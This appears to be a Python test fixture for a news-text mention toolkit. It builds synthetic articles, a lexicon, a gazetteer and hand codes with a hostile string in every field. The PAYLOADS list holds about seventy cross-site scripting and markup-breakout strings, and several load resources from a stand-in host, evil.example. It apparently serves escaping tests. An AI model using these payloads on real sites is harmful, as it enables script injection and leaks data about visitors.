"""Strings that would run, load, or break out, if any surface took them for markup.

And tables, a lexicon and hand codes with one of them in every text field.
"""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

import pandas as pd

from toolkit import find_mentions, load_lexicon, read_gazetteer

if TYPE_CHECKING:
    from pathlib import Path

    from toolkit.mentions.lexicon import Lexicon

MARK = "pwned"  # what each of them sets on the window, if it runs
_RUN = "window.pwned=1"

PAYLOADS = [
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}'>",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}',
    f"' onload='{_RUN}' x='",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
    f"<embed src='data:text/html,<script>{_RUN}</script>'>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    f"<input autofocus onfocus={_RUN}>",
    f"<body onload={_RUN}>",
    f"<a href='javascript:{_RUN}'>click</a>",
    f"[click](javascript:{_RUN})",
    f"![x](x){{onerror={_RUN}}}",
    f"[x]: javascript:{_RUN}",
    f"<javascript:{_RUN}>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<style>@import 'http://evil.example/b.css';</style>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><button>send</button></form>",
    "<img src=http://evil.example/pixel.png>",
    "![pixel](http://evil.example/pixel2.png)",
    f"{{{{ ''.__class__ }}}} {{% raw %}} ${{{_RUN}}}",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"<img src=x\tonerror\n=\n{_RUN}>",
    f"$\\href{{javascript:{_RUN}}}{{x}}$ $$\\require{{html}}\\style{{x:y}}{{z}}$$",
    f"\x1b]8;;javascript:{_RUN}\x07link\x1b]8;;\x07",
    f"<div style='width:expression({_RUN})'>x</div>",
    "<div style='background:url(http://evil.example/c.png)'>x</div>",
    "<style>*{background:url(http://evil.example/d.png)}</style>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>click</a>",
    f"<a href='JaVa&#115;cript&colon;{_RUN}'>click</a>",
    f"[x](data:text/html;base64,PHNjcmlwdD4={_RUN})",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<template><img src=x onerror={_RUN}></template>",
    f"<select><style></select><img src=x onerror={_RUN}></style>",
    '<script type="application/vnd.jupyter.widget-view+json">{"model_id":"x"}</script>',
    f'<script type="text/x-mathjax-config">{_RUN}</script>',
    f'<script type="math/tex">\\href{{javascript:{_RUN}}}{{x}}</script>',
    f'{{"text/html": "<script>{_RUN}</script>", "application/javascript": "{_RUN}"}}',
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"<%= {_RUN} %><?php {_RUN} ?>",
    f"<!--[if true]><script>{_RUN}</script><![endif]-->",
    f"</pre></code></div></main></body><script>{_RUN}</script>",
    f"| a | <script>{_RUN}</script> |",
    f"```html <script>{_RUN}</script> ```",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<sc\x00ript>{_RUN}</sc\x00ript>",
    f"\u2028{_RUN}//\u2029",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"javascript:/*--></title></style></script>`'\"><svg onload={_RUN}>",
]


def hostile_articles() -> pd.DataFrame:
    n = len(PAYLOADS)
    told = pd.Series(PAYLOADS)
    sides = pd.Series(
        [f"Front {spelled(i)} attacked League {spelled(i)} " for i in range(n)]
    )
    texts = sides + told + " and vowed to strike again, said " + told
    table = pd.DataFrame(
        {
            "article_id": told, "source": told, "title": "Attack " + told,
            "text": texts + ". Talks failed. It was suspected " + told + ".",
            "byline": told, "section": told, "captions": told, "url": told,
            "language": "en", "origin": told, "reader": told, "extra": told,
            "published": pd.date_range("2024-01-02", periods=n, freq="3D", tz="UTC"),
            "published_precision": "day", "published_from": told,
        }
    )  # fmt: skip
    aside = ("file", "place", "reason", "advice")
    table.attrs["skipped"] = [dict.fromkeys(aside, p) for p in PAYLOADS]
    table.attrs["notes"] = [
        dict.fromkeys(("file", "place", "note"), p) for p in PAYLOADS
    ]
    return table


def spelled(number: int) -> str:
    """A number as a word of letters."""
    return "".join(chr(ord("k") + int(digit)) for digit in str(number)) + "o"


def hostile_mentions(table: pd.DataFrame, folder: Path) -> pd.DataFrame:
    """Mentions whose actors bear the payloads as names, by a gazetteer of one's own."""
    path = folder / "actors.csv"
    names = {f"{side} {spelled(i)}": payload for i, payload in enumerate(PAYLOADS)
             for side in ("front", "league")}  # fmt: skip
    rows = pd.DataFrame({"actor": names.values(), "alias": names.keys()})
    rows.to_csv(path, index=False)
    mentions = find_mentions(table, hostile_lexicon(), gazetteer=read_gazetteer(path))
    assert len(set(mentions["actor"]) & {p.strip() for p in PAYLOADS}) > 40
    return mentions


def hostile_lexicon() -> Lexicon:
    entries = load_lexicon().entries.copy()
    entries["note"] = entries["example"] = PAYLOADS[9]
    names = dict.fromkeys(("name", "licence", "provenance", "limits"), PAYLOADS[11])
    return replace(load_lexicon(), entries=entries, version=PAYLOADS[0], **names)


def hostile_codes(table: pd.DataFrame) -> pd.DataFrame:
    """Each payload also as coder, note and coded sentence."""
    told = pd.Series(PAYLOADS)
    one = pd.DataFrame({"sentence_id": told, "sentence_text": table["text"],
                        "channel": "act", "status": "actual", "voice": "narrator",
                        "actor": told, "target": told, "note": told})  # fmt: skip
    return pd.concat([one.assign(coder=PAYLOADS[10]), one.assign(coder=PAYLOADS[12])])
